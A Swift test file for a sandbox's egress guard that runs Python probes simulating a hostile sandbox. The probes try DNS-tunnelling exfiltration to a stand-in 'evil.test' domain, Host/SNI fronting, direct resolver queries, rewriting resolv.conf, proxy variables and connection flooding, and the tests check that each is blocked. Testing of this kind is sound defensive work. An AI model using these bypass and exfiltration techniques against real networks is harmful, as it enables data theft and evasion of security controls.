import Foundation
import SandboxKit
import Testing

/// Allow-lists that name hosts, against the egress guard (`sandbox netd`, started by the engine from
/// .build/debug) and the test host's resolver (``TestRemoteHost``), as a hostile sandbox would try
/// them: each denied case beside a control that shows the same attempt succeeds where allowed.
@Suite(.serialized) struct EgressGuardTests {
    /// Runs `body` with a guard of its own whose upstream resolver is the test host's (a guard
    /// already running is ended first, and the one started here after).
    static func withGuard(_ body: () async throws -> Void) async throws {
        try await IsolationTests.requireIsolation()
        let remote = try TestRemoteHost()
        defer { remote.close() }
        endGuard()
        setenv("SANDBOX_NET_UPSTREAM", TestRemoteHost.address, 1)
        defer {
            unsetenv("SANDBOX_NET_UPSTREAM")
            endGuard()
        }
        try await body()
    }

    static func endGuard() {
        _ = system("f=${SANDBOX_NET_STATE:-/run/sandbox-net}/netd.lock; [ -s $f ] && kill $(cut -d' ' -f1 $f) 2>/dev/null; sleep 0.2; true")
    }

    static func python(_ sandbox: DockerSandbox, _ code: String) async throws -> ExecuteResult {
        try await sandbox.write("/tmp/probe.py", code)
        return try await sandbox.execute("python3 /tmp/probe.py", timeout: .seconds(30))
    }

    static func resolve(_ sandbox: DockerSandbox, _ name: String) async throws -> String? {
        let result = try await python(sandbox, "import socket; print(socket.gethostbyname('\(name)'))")
        return result.exitCode == 0 ? result.output.trimmingCharacters(in: .whitespacesAndNewlines) : nil
    }

    /// What an HTTP request to `address`:80 with `host` as its Host gets back ("" when cut off).
    static func http(_ sandbox: DockerSandbox, _ address: String, host: String) async throws -> String {
        try await python(sandbox, """
        import socket
        s = socket.create_connection(('\(address)', 80), timeout=3)
        s.sendall(b'GET / HTTP/1.1\\r\\nHost: \(host)\\r\\n\\r\\n')
        data = b''
        try:
            while True:
                more = s.recv(4096)
                if not more: break
                data += more
        except Exception: pass
        print(data.decode(errors='replace'))
        """).output
    }

    /// What a TLS ClientHello naming `name`, sent to `address`:`port`, gets back ("" when refused).
    static func tls(_ sandbox: DockerSandbox, _ address: String, name: String, port: Int = 443) async throws -> String {
        try await python(sandbox, """
        import socket, ssl
        o = ssl.MemoryBIO(); t = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), o, server_hostname='\(name)')
        try: t.do_handshake()
        except ssl.SSLWantReadError: pass
        try:
            s = socket.create_connection(('\(address)', \(port)), timeout=3); s.sendall(o.read())
            print(s.recv(64).decode(errors='replace'))
        except Exception as e: print('failed', e)
        """).output
    }

    /// Whether a query for `name` sent straight to `address` (UDP, or TCP) is answered.
    static func askDirectly(_ sandbox: DockerSandbox, _ address: String, _ name: String, tcp: Bool = false) async throws -> Bool {
        let result = try await python(sandbox, """
        import socket
        q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(l)]) + l.encode() for l in '\(name)'.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
        if \(tcp ? "True" : "False"):
            s = socket.create_connection(('\(address)', 53), timeout=2); s.sendall(len(q).to_bytes(2, 'big') + q); a = s.recv(512)
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, ('\(address)', 53)); a = s.recv(512)
        print(len(a))
        """)
        return result.exitCode == 0
    }

    static func sandbox(allow: [String], hosts: [String] = []) throws -> DockerSandbox {
        try IsolationTests.sandbox(allow: allow, hosts: hosts)
    }

    @Test func allowedNamesResolveAndConnectAndNothingElseLeaves() async throws {
        try await Self.withGuard {
            let sandbox = try Self.sandbox(allow: ["*.good.test:80", "*.good.test:443"])
            let control = try Self.sandbox(allow: ["*.evil.test", "\(TestRemoteHost.address):53", "\(TestRemoteHost.address):853"])
            try await IsolationTests.with([sandbox, control]) {
                // An allowed name resolves (through the guard and the test host's resolver) and its
                // address answers on the allowed ports, through the proxy for 80 and 443.
                #expect(try await Self.resolve(sandbox, "api.good.test") == TestRemoteHost.address)
                #expect(try await Self.http(sandbox, TestRemoteHost.address, host: "api.good.test").contains("ok"))
                #expect(try await Self.tls(sandbox, TestRemoteHost.address, name: "api.good.test").contains("ok"))

                // DNS tunnelling: the denied name's query never leaves the host; the control's does.
                #expect(try await Self.resolve(sandbox, "c2VjcmV0.exfil.evil.test") == nil)
                #expect(!TestRemoteHost.queries.contains { $0.hasSuffix("evil.test") })
                #expect(try await Self.resolve(control, "c2VjcmV0.exfil.evil.test") == TestRemoteHost.address)
                #expect(TestRemoteHost.queries.contains("c2vjcmv0.exfil.evil.test"))  // names go lowercased

                // Host and SNI naming a denied host towards the allowed address: refused.
                let fronted = try await Self.http(sandbox, TestRemoteHost.address, host: "api.evil.test")
                #expect(fronted.contains("403") && !fronted.contains("ok\n"), "\(fronted)")
                #expect(!(try await Self.tls(sandbox, TestRemoteHost.address, name: "dns.evil.test").contains("ok")))

                // A resolver by address (UDP, TCP), DNS over TLS by address: blocked; allowed, answered.
                #expect(try await !Self.askDirectly(sandbox, TestRemoteHost.address, "x.evil.test"))
                #expect(try await !Self.askDirectly(sandbox, TestRemoteHost.address, "x.evil.test", tcp: true))
                #expect(try await Self.askDirectly(control, TestRemoteHost.address, "x.evil.test"))
                #expect(try await Self.askDirectly(control, TestRemoteHost.address, "x.evil.test", tcp: true))
                #expect(!(try await Self.tls(sandbox, TestRemoteHost.address, name: "api.good.test", port: 853).contains("ok")))
                #expect(try await Self.tls(control, TestRemoteHost.address, name: "dns.evil.test", port: 853).contains("ok"))

                // Every denial is recorded, with what was asked.
                let records = sandbox.egressRecords().records
                #expect(records.contains { $0.kind == .dns && $0.destination == "c2vjcmv0.exfil.evil.test" }, "\(records)")
                #expect(records.contains { $0.kind == .http && $0.destination == "api.evil.test" }, "\(records)")
                #expect(records.contains { $0.kind == .tls && $0.destination == "dns.evil.test" }, "\(records)")
                #expect(records.contains { $0.kind == .connection && $0.destination == "\(TestRemoteHost.address):53/udp" }, "\(records)")
                #expect(records.contains { $0.kind == .connection && $0.destination == "\(TestRemoteHost.address):853/tcp" }, "\(records)")
            }
        }
    }

    @Test func aSandboxHoldingTheProxyDoesNotStarveAnother() async throws {
        try await Self.withGuard {
            let hog = try Self.sandbox(allow: ["*.good.test:80"])
            let other = try Self.sandbox(allow: ["*.good.test:80"])
            try await IsolationTests.with([hog, other]) {
                #expect(try await Self.resolve(hog, "a.good.test") == TestRemoteHost.address)
                #expect(try await Self.resolve(other, "b.good.test") == TestRemoteHost.address)
                // More connections to the proxy than it serves at once (512), never sending a byte, held in a job.
                try await hog.write("/tmp/hold.py", """
                import socket, time
                held = [socket.create_connection(('\(TestRemoteHost.address)', 80), timeout=5) for _ in range(600)]
                print('holding', flush=True); time.sleep(30)
                """)
                _ = try await hog.execute("setsid python3 /tmp/hold.py >/dev/null 2>&1 </dev/null &")
                try await Task.sleep(for: .seconds(2))
                #expect(try await Self.http(other, TestRemoteHost.address, host: "b.good.test").contains("ok"))
            }
        }
    }

    @Test func proxyVariablesAndResolvConfGainNothing() async throws {
        try await Self.withGuard {
            let sandbox = try Self.sandbox(allow: ["api.good.test:80"])
            try await IsolationTests.with([sandbox]) {
                // Root points the resolver at the test host's, and a proxy variable at it: neither is reached.
                _ = try await sandbox.execute("echo 'nameserver \(TestRemoteHost.address)' > /etc/resolv.conf")
                #expect(try await Self.resolve(sandbox, "x.evil.test") == nil)
                let proxied = try await sandbox.execute(
                    "HTTP_PROXY=http://\(TestRemoteHost.address):8080 python3 -c \"import urllib.request as u; print(u.urlopen('http://x.evil.test/', timeout=3).read())\"")
                #expect(proxied.exitCode != 0, "\(proxied.output)")
            }
        }
    }
}

/// Rules changed while a sandbox runs: in force when the call returns, recorded when they deny.
@Suite(.serialized) struct LivePolicyTests {
    @Test func allowAndDenyTakeEffectWhileItRuns() async throws {
        try await EgressGuardTests.withGuard {
            let listener = try TestListener()
            defer { listener.close() }
            let gateway = try #require(TestRemoteHost.gateway(of: "sbx-iso"))
            let isolated = try IsolationTests.sandbox()
            let allowList = try IsolationTests.sandbox(allow: ["*.good.test:80"])
            try await IsolationTests.with([isolated, allowList]) {
                // Isolated: the host is out of reach until allowed, the internet until denied.
                try await IsolationTests.expect(false, isolated, gateway, listener.port)
                _ = try await isolated.allow(EgressRule(parsing: "\(gateway):\(listener.port)"))
                try await IsolationTests.expect(true, isolated, gateway, listener.port)
                try await IsolationTests.expect(true, isolated, TestRemoteHost.address, 8080)
                let denied = try await isolated.deny(EgressRule(parsing: "\(TestRemoteHost.address)"))
                #expect(denied.deny.map(\.description) == [TestRemoteHost.address])
                try await IsolationTests.expect(false, isolated, TestRemoteHost.address, 8080)
                #expect(try await isolated.currentPolicy() == denied)
                await #expect(throws: SandboxError.self) { try await isolated.deny(EgressRule(parsing: "example.com")) }

                // Allow-list: a name allowed now resolves and connects; denied again, it does not.
                #expect(try await EgressGuardTests.resolve(allowList, "api.other.test") == nil)
                _ = try await allowList.allow(EgressRule(parsing: "api.other.test:8080"))
                #expect(try await EgressGuardTests.resolve(allowList, "api.other.test") == TestRemoteHost.address)
                try await IsolationTests.expect(true, allowList, TestRemoteHost.address, 8080)
                _ = try await allowList.deny(EgressRule(parsing: "api.other.test:8080"))
                try await IsolationTests.expect(false, allowList, TestRemoteHost.address, 8080)
                #expect(try await EgressGuardTests.resolve(allowList, "api.other.test") == nil)

                // The isolated sandbox's refusals are its own records too.
                try await Task.sleep(for: .milliseconds(300))
                let records = isolated.egressRecords().records
                #expect(records.contains { $0.kind == .connection && $0.destination == "\(TestRemoteHost.address):8080/tcp" }, "\(records)")
            }
        }
    }
}
